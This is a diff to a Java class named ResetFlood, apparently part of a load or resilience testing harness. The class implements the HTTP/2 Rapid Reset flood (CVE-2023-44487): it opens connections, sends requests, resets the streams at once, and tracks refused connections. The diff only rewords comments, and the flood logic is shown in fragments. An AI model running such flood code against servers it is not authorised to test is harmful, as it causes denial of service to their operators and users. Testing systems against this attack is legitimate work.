@@ -6,8 +6,8 @@ import java.io.IOException;
 import java.net.SocketException;
 
 /**
- * Streams that begin, send a whole request and are reset at once (CVE-2023-44487), over as many
- * connections as that takes.
+ * Streams that send a complete request and are reset immediately (CVE-2023-44487), over as many
+ * connections as needed.
  */
 final class ResetFlood implements Attack {
   private static final byte[] CANCEL = {0, 0, 0, 8};
@@ -39,7 +39,7 @@ final class ResetFlood implements Attack {
       try (RawConnection connection = RawConnection.wide(target)) {
         sent += overOne(connection, resets - sent);
       } catch (SocketException closed) {
-        // The member does not take this connection.
+        // The member refuses this connection.
         refused++;
       }
     }
@@ -65,7 +65,7 @@ final class ResetFlood implements Attack {
         }
       }
       connection.frame(Http2Bytes.PING, 0, 0, new byte[8]);
-      // To the answer of the ping all is worked on.
+      // The acknowledgement of the ping follows the processing of all requests.
       while (connection
           .read()
           .filter(frame -> frame.type() != Http2Bytes.PING || (frame.flags() & 1) == 0)
@@ -73,12 +73,12 @@ final class ResetFlood implements Attack {
         // Responses of the streams.
       }
     } catch (SocketException closed) {
-      // The member does not take more on this connection.
+      // The member accepts no more on this connection.
     }
     return sent;
   }
 
-  /** Over how many connections they came. */
+  /** The number of connections. */
   int connections() {
     return connections;
   }
